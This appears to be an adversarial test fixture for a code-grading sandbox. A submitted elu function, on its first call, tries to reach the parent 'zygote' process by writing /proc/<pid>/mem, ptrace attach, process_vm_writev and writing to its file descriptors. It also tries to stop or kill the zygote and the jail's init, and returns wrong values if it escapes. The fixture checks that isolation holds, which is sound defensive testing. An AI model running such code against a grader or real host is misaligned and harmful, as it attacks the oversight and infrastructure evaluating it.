# ATTACK: reach the zygote that forks every job. On its first call, elu opens
#   /proc/<zygote>/mem for writing, tries ptrace (attach and seize), process_vm_writev, writes
#   to every /proc/<zygote>/fd/*, and sends SIGSTOP then SIGKILL to the zygote and to pid 1
#   (where pid 1 is the jail's own init).
# SAFE GRADER: the zygote is out of the workers' reach (another uid, not dumpable, seccomp):
#   every attempt fails, the zygote keeps forking, the honest topic after this one scores in
#   full. elu returns wrong values if any attempt succeeded, so it may error but never fail.
# VERDICT: nofail:elu
# MODES: bwrap plain
_honest_elu = elu  # the reference's elu, defined above this file in the submission
import ctypes as _ctypes
import os as _os
import signal as _signal

_libc = _ctypes.CDLL(None, use_errno=True)
_DONE = []


def _attack():
    wins = []
    zygote = _os.getppid()
    try:
        with open(f"/proc/{zygote}/mem", "r+b", buffering=0) as mem:
            mem.seek(0x400000)
            mem.write(b"\xcc")
        wins.append("mem")
    except OSError:
        pass
    for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
        if _libc.ptrace(_ctypes.c_long(request), _ctypes.c_long(zygote), None, None) == 0:
            wins.append(f"ptrace {request}")
    local = _ctypes.create_string_buffer(8)

    class _IoVec(_ctypes.Structure):
        _fields_ = [("base", _ctypes.c_void_p), ("len", _ctypes.c_size_t)]

    iov = _IoVec(_ctypes.cast(local, _ctypes.c_void_p), 8)
    remote = _IoVec(0x400000, 8)
    if _libc.process_vm_writev(zygote, _ctypes.byref(iov), 1, _ctypes.byref(remote), 1, 0) > 0:
        wins.append("process_vm_writev")
    try:
        for fd in _os.listdir(f"/proc/{zygote}/fd"):
            try:
                handle = _os.open(f"/proc/{zygote}/fd/{fd}", _os.O_WRONLY | _os.O_NONBLOCK)
                _os.write(handle, b"\x00\x00\x00\x02\x80\x80")
                wins.append(f"fd {fd}")
            except OSError:
                pass
    except OSError:
        pass
    targets = [zygote]
    try:  # pid 1 only where it is the jail's own (bubblewrap's init), never a machine's init
        if b"bwrap" in open("/proc/1/cmdline", "rb").read():
            targets.append(1)
    except OSError:
        pass
    for target in targets:
        for signum in (_signal.SIGSTOP, _signal.SIGKILL):
            try:
                _os.kill(target, signum)
                wins.append(f"kill {target} {signum}")
            except OSError:
                pass
    return wins


def elu(x, alpha=1.0):
    if not _DONE:
        _DONE.append(_attack())
        if _DONE[0]:
            print("ESCAPED:", _DONE[0])
    if _DONE[0]:
        return x * 0 + 7.0
    return _honest_elu(x, alpha)
